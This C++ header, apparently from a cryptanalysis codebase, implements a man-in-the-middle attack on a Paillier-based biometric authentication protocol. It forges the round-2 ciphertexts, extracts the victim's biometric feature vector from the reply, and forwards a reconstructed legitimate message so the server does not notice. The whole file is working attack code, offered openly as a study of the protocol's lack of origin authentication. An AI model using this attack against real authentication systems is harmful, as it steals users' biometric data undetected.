#pragma once

// Active eavesdropper attack. The adversary sits on the wire, holds only the
// public key, and rewrites round 2:
//
//   forged  : c''_j = 1 + n r''_j mod n^2,  r''_j a unit mod n
//   victim  : d_j   = c''_j^(b_j) = 1 + n r''_j b_j mod n^2
//   recover : b_j   = ((d_j - 1) / n) r''_j^-1 mod n
//
// Nothing verifies message origin, so the victim cannot tell c'' from the
// genuine c'. To keep the server equally unaware, the adversary afterwards
// computes the legitimate round-3 message d_j = c'_j^(b_j) from the real
// intercepted c' and the recovered b, and forwards that instead of the
// victim's reply. The enrolled template and the user's long-term vectors
// stay out of reach here: stripping their blinding needs the decryption
// exponent, which never crosses the wire.

#include <cstdint>
#include <utility>
#include <vector>

#include "pbauth/attack_report.hpp"
#include "pbauth/errors.hpp"
#include "pbauth/features.hpp"
#include "pbauth/modmath.hpp"
#include "pbauth/paillier.hpp"
#include "pbauth/wire.hpp"

namespace pbauth::attacks {

/// Everything the on-path adversary accumulates: the public key, its forgery
/// exponents, the intercepted legitimate round-2 message, and the features
/// it recovered. No server-side key material, by construction.
struct MitmState {
  paillier::PublicKey pk;
  std::vector<Bigint> r_double_prime;      // units mod n
  wire::Round2Message intercepted_c_prime; // the genuine blinded template
  protocol::FeatureVector recovered_b;

  std::size_t size() const { return r_double_prime.size(); }
};

/// Replacement for the legitimate round-2 message: c''_j = 1 + n r''_j.
/// Each entry is a valid encryption of r''_j with unit blinding factor, so
/// the victim's round-3 validation accepts it.
inline std::pair<wire::Round2Message, MitmState> mitm_forge_round2(
    const paillier::PublicKey& pk, std::size_t t, modmath::RandomSource& rng) {
  if (t < 1) throw ParameterError("mitm forge: t must be >= 1");
  MitmState state;
  state.pk = pk;
  state.r_double_prime.reserve(t);
  wire::Round2Message forged;
  forged.c_prime.reserve(t);
  for (std::size_t j = 0; j < t; ++j) {
    Bigint r = modmath::sample_unit(pk.n, rng);
    forged.c_prime.push_back((1 + pk.n * r) % pk.n_squared);
    state.r_double_prime.push_back(std::move(r));
  }
  return {std::move(forged), std::move(state)};
}

/// Read b straight out of the victim's reply to the forged vector.
/// Exact whenever the features are below n, since d_j - 1 = n r''_j b_j.
inline protocol::FeatureVector mitm_recover_b(const MitmState& state,
                                              const wire::Round3Message& msg) {
  if (msg.d.size() != state.size())
    throw ProtocolError("mitm recover: reply length differs from forgery");
  std::vector<std::uint64_t> elements;
  elements.reserve(msg.d.size());
  for (std::size_t j = 0; j < msg.d.size(); ++j) {
    Bigint shifted = msg.d[j] - 1;
    if (!mpz_divisible_p(shifted.get_mpz_t(), state.pk.n.get_mpz_t()))
      throw ForgeryMismatchError("mitm recover: reply was not computed on the forged vector");
    Bigint b = (shifted / state.pk.n) %
               state.pk.n * modmath::mod_inv(state.r_double_prime[j], state.pk.n) %
               state.pk.n;
    if (!b.fits_ulong_p())
      throw ForgeryMismatchError("mitm recover: recovered value is not a small feature");
    elements.push_back(b.get_ui());
  }
  std::uint64_t bound = protocol::kDefaultFeatureBound;
  for (std::uint64_t v : elements)
    if (v >= bound) bound = v + 1;
  return protocol::FeatureVector{std::move(elements), bound};
}

/// The legitimate round-3 message the honest victim would have produced,
/// computed from the intercepted real c' and the recovered b. Forwarding it
/// makes the server's view, and hence its decision, identical to the honest
/// run.
inline wire::Round3Message mitm_cover_forward(
    const MitmState& state, const wire::Round2Message& intercepted_c_prime) {
  if (state.recovered_b.size() == 0)
    throw StateError("mitm cover: recover b before forwarding");
  if (intercepted_c_prime.c_prime.size() != state.recovered_b.size())
    throw ProtocolError("mitm cover: intercepted message length differs from b");
  wire::Round3Message out;
  out.d.reserve(state.recovered_b.size());
  for (std::size_t j = 0; j < state.recovered_b.size(); ++j)
    out.d.push_back(modmath::mod_pow(
        intercepted_c_prime.c_prime[j],
        Bigint(static_cast<unsigned long>(state.recovered_b.elements[j])),
        state.pk.n_squared));
  return out;
}

}  // namespace pbauth::attacks
